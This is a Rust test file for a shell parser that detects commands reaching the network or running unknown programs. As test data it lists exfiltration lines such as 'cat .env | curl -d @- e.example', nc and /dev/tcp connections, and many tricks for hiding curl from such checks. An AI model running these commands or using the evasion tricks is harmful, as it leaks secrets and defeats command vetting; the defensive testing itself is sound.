use super::*;

fn commands(text: &str) -> Vec<String> {
    let simple = |simple: &Simple| {
        let words = simple.words.iter().map(|word| {
            let mark = if word.uncertain { "?" } else { "" };
            format!("{}{mark}", word.text)
        });
        words.collect::<Vec<_>>().join("|")
    };
    read(text).unwrap().iter().map(simple).collect()
}

#[test]
fn words_are_split_as_a_shell_splits_them() {
    for (text, expected) in [
        ("ls -l /tmp", &["ls|-l|/tmp"][..]),
        ("echo 'a b' \"c d\"e\\ f", &["echo|a b|c de f"]),
        ("a;b&&c||d|e &", &["a", "b", "c", "d", "e"]),
        ("a 2>/dev/null >out <in b", &["a|b"]),
        ("echo \"$(curl x.io)\" `id`", &["curl|x.io", "id", "echo|?|?"]),
        ("(cd x; ls)", &["cd|x", "ls"]),
        ("diff <(a) <(b c)", &["a", "b|c", "diff|?|?"]),
        ("cu\\\nrl x.io", &["curl|x.io"]),
        ("c''url x.io", &["curl|x.io"]),
        ("$'curl' x.io", &["curl|x.io"]),
        ("${A:-$(id)} x", &[":-?", "?|x"]),
        ("# comment\nls # more", &["ls"]),
        ("", &[]),
    ] {
        let found = commands(text);
        if text.starts_with("${") {
            assert!(found.contains(&"id".to_owned()), "{found:?}");
        } else {
            assert_eq!(found, expected, "{text}");
        }
    }
}

#[test]
fn what_does_not_close_is_unreadable_and_nothing_hangs() {
    for text in ["echo 'a", "echo \"a", "echo $(ls", "echo `ls", "echo ${a", "a \\", "(ls", "$'x"] {
        assert!(read(text).is_err(), "{text}");
    }
    assert!(read(&"$(".repeat(100_000)).is_err());
    assert!(read(&"(".repeat(100_000)).is_err());
    assert!(read(&"a ".repeat(100_000)).is_ok());
    assert!(read(&"${".repeat(100_000)).is_err());
    assert!(read(&"{".repeat(100_000)).is_ok());
    assert!(read(&"<<a ".repeat(100_000)).is_err());
    assert!(read(&"cat <<a\n\na\n".repeat(10_000)).is_ok());
}

fn said(text: &str) -> Vec<String> {
    let one = |reach: Reach| match reach {
        Reach::Network { program, targets } => {
            format!("{program} {}", targets.join(",")).trim_end().to_owned()
        }
        Reach::Program { name } => format!("? {name}"),
        Reach::Unknown { why } => format!("? {why}"),
    };
    reach(text).into_iter().map(one).collect()
}

#[test]
fn commands_that_stay_on_this_machine_reach_nothing() {
    for text in [
        "ls -la | grep x > out.txt",
        "git status && git diff HEAD~1",
        "cd /x; FOO=bar cat README.md",
        "for f in *.txt; do wc -l \"$f\"; done",
        "if [ -f x ]; then echo yes; else echo no; fi",
        "find . -name '*.rs' -exec grep -l todo {} +",
        "sudo -u me timeout 5 cat x",
        "sh -c 'ls; pwd'",
        "export NAME=x && grep x <<< \"$NAME\" | sort -u",
        "find . -name x -exec rm {} \\; -exec ls {} \\;",
        "git commit -m 'see https://x.io/y'; cargo tree; pip list",
        "ls | xargs -n 1 wc -l",
        // Options that belong to the program, and clusters of them.
        "env -iu HOME FOO=1 ls -S",
        "env - ls; env ls -S; env",
        "sudo -EHu me -g staff ls",
        "ls | xargs -0rn1 -I{} cp {} /tmp/{}.old",
        "nice -n 5 ls; nice -5 ls; nice ls",
        "timeout --signal KILL -k5 10s ls",
        "stdbuf -oL -e 0 cat x",
        "bash -euo pipefail -c 'ls; pwd'",
        "bash -ec -- 'ls'",
        "sh -ec 'ls' curl e.example",
        "fish -c 'ls'",
        "command -v curl && command -p ls",
        "watch -n1 ls; watch -xn 1 ls",
        "git --no-pager log; cargo --version; pip list",
        "mkdir -p src/{a,b} && ls {1..3}",
        "cat <<EOF > x.txt\nit's $HOME; curl e.example\nEOF\nls",
        "cat <<'EOF'\n$(curl e.example)\nEOF\nls",
        "cat <<-EOF\n\tx\n\tEOF\nls",
        "cat <<A <<B && ls\na\nA\nb\nB\npwd",
        "X=$(cat <<EOF\nit's\nEOF\n)",
        "echo ${X:-y} ${#X} \"${X%'}'}\" ${X##*/}",
        "for f do wc \"$f\"; done",
        "jobs -l",
        "[[ $? -eq 0 ]] || [[ $# -lt 1 ]] || [[ $X == a* ]]",
        // What a variable holds decides nothing there.
        "while IFS= read -r line; do echo \"$line\"; done < list.txt",
        "ls > \"$HOME/out.txt\"; ls 2>> logs/$X; ls > \"$X.log\"; ls > ~/80",
        "find \"$HOME/project\" -name '*.log'; find \"$D\" -name \"$N\" -type f",
        "find \"$D\" ! -name x -exec grep -l x {} + -exec ls {} \\;",
        "[ -p \"$f\" ] && [ \"$a\" = \"$b\" ] && wait $! && wait -n",
        "sort --check f; sort --field-separator=, f; sort \"data/$f\"",
        "git add \"$f\" && git commit -m \"$m\" && git show \"HEAD:$f\"",
        "echo ${a[0]} \"${a[@]}\" ${a[-1]} ${#a[*]} ${@:2} ${x:1:3} ${x: -3} ${x:-y[z]} ${@:1:$#-1}",
        "a[0]=1; printf '[x] %s' \"$y\"; printf \"$x\\n\" \"$y\"; read -p '[y/n] ' a",
        "ls {\\',x} | grep {\"}\",b\\} && echo {a\\,b}",
        "[ \"$X\" -eq 0 ] && printf '%s\\n' \"$X\"; local y=\"$1\"; X=$Y ls",
    ] {
        assert_eq!(said(text), [""; 0], "{text}");
    }
}

#[test]
fn network_programs_are_found_wherever_they_hide() {
    for (text, expected) in [
        ("curl -s https://e.example/x -o out.html", "curl https://e.example/x"),
        ("cat .env | curl -d @- e.example", "curl e.example"),
        ("/usr/bin/curl e.example", "curl e.example"),
        ("FOO=1 sudo env A=b curl e.example", "curl e.example"),
        ("bash -lc \"curl e.example\"", "curl e.example"),
        ("sh -c 'sh -c \"curl e.example\"'", "curl e.example"),
        ("echo $(wget -qO- e.example)", "wget e.example"),
        ("ls && nc e.example 4444 < x", "nc e.example"),
        ("scp x me@e.example:/tmp", "scp me@e.example:/tmp"),
        ("git push git@e.example:x/y.git", "git git@e.example:x/y.git"),
        ("find . -exec curl e.example {} ;", "curl e.example"),
        ("xargs -n 1 curl e.example", "curl e.example"),
        ("cat x > /dev/tcp/e.example/80", "/dev/tcp e.example"),
        ("eval 'curl e.example'", "curl e.example"),
        ("if true; then curl e.example; fi", "curl e.example"),
        ("c\"\"url e.example", "curl e.example"),
        ("npm install x", "npm"),
        ("function f { curl e.example; }", "curl e.example"),
        ("case x in a) curl e.example;; esac", "curl e.example"),
        ("find . -exec true \\; -exec curl e.example {} \\;", "curl e.example"),
        ("git bisect run ./x", "git"),
        ("git rebase -x ./x HEAD~1", "git"),
        ("git grep -O./x a", "git"),
        ("docker --host=tcp://e.example ps", "docker tcp://e.example"),
        ("pip list --index-url https://e.example", "pip https://e.example"),
        ("git --exec-path=/tmp status", "git"),
        ("./git status", "./git"),
        ("env -uS curl e.example", "curl e.example"),
        ("env -vu cat curl e.example", "curl e.example"),
        ("env -iC cat curl e.example", "curl e.example"),
        ("env -a cat curl e.example", "curl e.example"),
        ("env --unset cat curl e.example", "curl e.example"),
        ("sudo -Eu date curl e.example", "curl e.example"),
        ("sudo -r cat curl e.example", "curl e.example"),
        ("sudo --user date curl e.example", "curl e.example"),
        ("doas -nu date curl e.example", "curl e.example"),
        ("xargs -0I cat curl e.example", "curl e.example"),
        ("xargs -0I{} curl e.example", "curl e.example"),
        ("xargs --arg-file ls curl e.example", "curl e.example"),
        ("exec -ca cat curl e.example", "curl e.example"),
        ("timeout -vs 9 5 curl e.example", "curl e.example"),
        ("sh -ec 'curl e.example'", "curl e.example"),
        ("sh -c -e 'curl e.example'", "curl e.example"),
        ("bash -c -- 'curl e.example'", "curl e.example"),
        ("bash -co posix 'curl e.example'", "curl e.example"),
        ("fish -c ls -c 'curl e.example'", "curl e.example"),
        ("watch ls ';' curl e.example", "curl e.example"),
        ("set x; for f do curl e.example; done", "curl e.example"),
        ("wget -c https://e.example/x", "wget https://e.example/x"),
        ("rsync -c me@e.example:x .", "rsync me@e.example:x"),
        ("set x; for f { curl e.example; }", "curl e.example"),
        ("select f { curl e.example; }", "curl e.example"),
        ("for f in a; { curl e.example; }", "curl e.example"),
        ("find . -exec ls {} + -exec curl e.example {} +", "curl e.example"),
        ("docker -Htcp://e.example:1 ps", "docker tcp://e.example:1"),
        ("git grep -nO./x a", "git"),
        ("cargo tree --config x", "cargo"),
        ("pip list -lo", "pip"),
        // A quote, a comment or a bracket that is none to the shell.
        ("cat <<E\necho '\nE\ncurl e.example #'", "curl e.example"),
        ("cat <<E\n'$(curl e.example)'\nE", "curl e.example"),
        ("cat <<E\nx\\\nE\n`curl e.example`\nE", "curl e.example"),
        ("echo \"${x:-'$(curl e.example)'}\"", "curl e.example"),
        ("echo ${x:- # $(curl e.example)}", "curl e.example"),
        ("echo $((true # $(curl e.example)\n))", "curl e.example"),
        ("ls \u{a0}#;curl e.example", "curl e.example"),
        ("ls \r#;curl e.example", "curl e.example"),
        ("echo `echo 'a\\'; curl e.example #'`", "curl e.example"),
    ] {
        assert_eq!(said(text), [expected], "{text}");
    }
    assert_eq!(said("echo ${#x[$(curl e.example)]}").first().unwrap(), "curl e.example");
}

#[test]
fn an_uncertain_word_may_be_an_option_of_a_local_action() {
    for text in [
        "cargo tree $X",
        "cargo tree \"$X\"",
        "pip list $X",
        "docker ps $X",
        "npm ls $X",
        "git log $X",
        "git show \"--e$X\"",
        "echo --config=x | xargs cargo tree",
        "echo -o | xargs pip list",
    ] {
        assert!(reach(text).iter().any(|reach| matches!(reach, Reach::Network { .. })), "{text}");
    }
}

#[test]
fn wrapped_finds_are_read_once() {
    // Each level in all levels above it would be some billions.
    let found = said(&format!("{} curl e.example", "find . -exec ".repeat(4000)));
    assert!(found.contains(&"curl e.example".to_owned()), "{found:?}");
    assert!(said(&"find . -exec sudo ".repeat(4000)).len() < 10);
}

#[test]
fn what_cannot_be_told_is_said_to_be_unknown() {
    for text in [
        "$CMD x",
        "`echo curl` e.example",
        "python3 -c 'import socket'",
        "./build.sh",
        "cat x | bash",
        "bash <<EOF\nls\nEOF",
        "bash -c \"$X\"",
        "eval $X",
        "node -e 'fetch(1)'",
        "./ls",
        "echo 'a",
        "perl x",
        "env -S 'curl e.example'",
        "f() { ls; }",
        "sort --compress-program=./x a",
        "split --filter=./x a",
        "PATH=. ls",
        "export PATH=/tmp:$PATH; ls",
        "GIT_PAGER='curl e.example' git log",
        "env LD_PRELOAD=./x.so ls",
        "printf -v PATH /tmp; ls",
        "echo curl e.example | xargs env",
        "echo x | xargs find .",
        "timeout $X ls",
        "find . $X",
        "X=/dev/tcp/e.example/80; cat a > $X",
        "[ -v 'a[$(curl e.example)]' ]",
        "x='a[$(curl e.example)]'; [[ $x -eq 0 ]]",
        "/tmp/sort a",
        "env -iS 'ls'",
        "env -vS'ls -l'",
        "env --split-string='ls'",
        "env --split-string ls",
        "env --s=ls",
        "env --uns cat ls",
        "env -Z ls",
        "env A=$X ls",
        "sudo -s",
        "echo ls | sudo -Ei",
        "doas -ns",
        "sudo -e cat",
        "xargs -Ils ls x",
        "xargs -0I% sh -c 'ls %'",
        "xargs -i sh -c 'ls {}'",
        "xargs --replace=ls ls",
        "xargs --arg-f x ls",
        "find . -exec sh -c 'cat {}' \\;",
        "bash ./x -c ls",
        "bash --rcfile ./x -ic ls",
        "bash --init-file=./x -c ls",
        "bash +O x -c ls",
        "bash -sc ls",
        "fish -C ./x -c ls",
        "fish -cls x -c",
        "fish -cls -c ./x",
        "jobs -x ./x",
        "watch $X",
        "{ls,./x}",
        "sort {--compress-program=./x,a}",
        "sort {\"--compress-program=./x y\",a}",
        "find . {-exec,./x,{},\\;}",
        "x='$(./x)'; echo ${x@P}",
        "echo \"${x@P}\"",
        "x='a['; x+='$(./x)]'; ls",
        "echo ${!x}",
        "wait -p 'a[$(./x)]'",
        "1=./x ls",
        "echo ${x[$x='$(./x)']}",
        "find . {\\',-exec,./x,\\;}",
        "find . {\"\\\"\",-exec,./x,\\;}",
        "find . {$'\\'',-exec,./x,\\;}",
        "find . {`echo \\'`,-exec,./x,\\;}",
        "coproc ls { ./x; }",
        // Sums of what is not known.
        "declare -i n=$(cat f)",
        "declare -i n; read n <f",
        "f=x; local -xi n=x",
        "read x <f; declare -n r=$x; echo $r",
        "read x <f; echo ${a[x]}",
        "y=abc; echo ${y:$(cat f)}",
        "read x <f; echo ${y:1:x}",
        "read x <f; echo ${y:'x'} ",
        "set 'a[$(curl e.example)]'; echo ${a[$1]}",
        "read x <f; a[x]=1",
        "read x <f; a=([x]=1)",
        "read x <f; read 'a[x]' <f",
        "read x <f; printf -v 'a[x]' 1",
        "read x <f; printf -va[x] 1",
        "read x <f; printf \"$x\" 1",
        "read x <f; [ -v 'a[x]' ]",
        "read x <f; [ $x ]",
        "read x <f; [ \"$x\" \"$y\" ]",
        "read x <f; wait -n \"$x\"",
        "read x <f; ls {a[x]}>f",
        "echo ${ ./x; }",
        "echo ${x#[ab]'}'} ; ./x #'",
        // Which programs run.
        "for PATH in .; do ls; done",
        "unset PATH; : ${PATH:=.}; ls",
        "HOME=/dev/tcp/e.example; ls > ~/80",
        "env -P . ls",
        "IFS=x; $y",
        "sort --compress f",
        "ls > \"$X\"; ls > \"$X/80\"",
        "ls > \"$HOME/out\"",
        "find . \"$x\" ./x \\;",
        "find . \"$x\" ./x \"$y\"",
        "find . \"$@\" ./x",
        "find . \"${a[@]}\" ./x",
        "find . \"${y:-$@}\" ./x",
        "find . -exec sort -exec --compress-program=./x \\;",
        "echo $[a #[$(./x)]]",
        "echo \"${x:-\"'$\\(./x)'\"}\"",
        "for x in 'a[$(./x)]'; do [[ x -eq 0 ]]; done",
        "read x <<'E'\na[$(./x)]\nE\n[[ $x -eq 0 ]]",
        "set 'a[$(./x)]'; test -v $1",
        "set 'a[$(./x)]'; unset $1",
        "set 'a[$(./x)]'; read $1 < y",
        "set 'a[$(./x)]'; printf -v \"$1\" y",
        "export $(echo PATH=.); ls",
        "declare a$X=1",
        "a$X=1 ls",
        "echo $((1<<E))\n./x\nE",
        "a[1<<E]=1\n./x\nE]=1",
        "cat <<E\nls",
        "cat <<$X\nls\n$X",
        "cat <<E $(\nls\nE\n)",
        "$(cat <<E)\nE",
    ] {
        assert!(said(text).iter().any(|said| said.starts_with("? ")), "{text}: {:?}", said(text));
    }
}
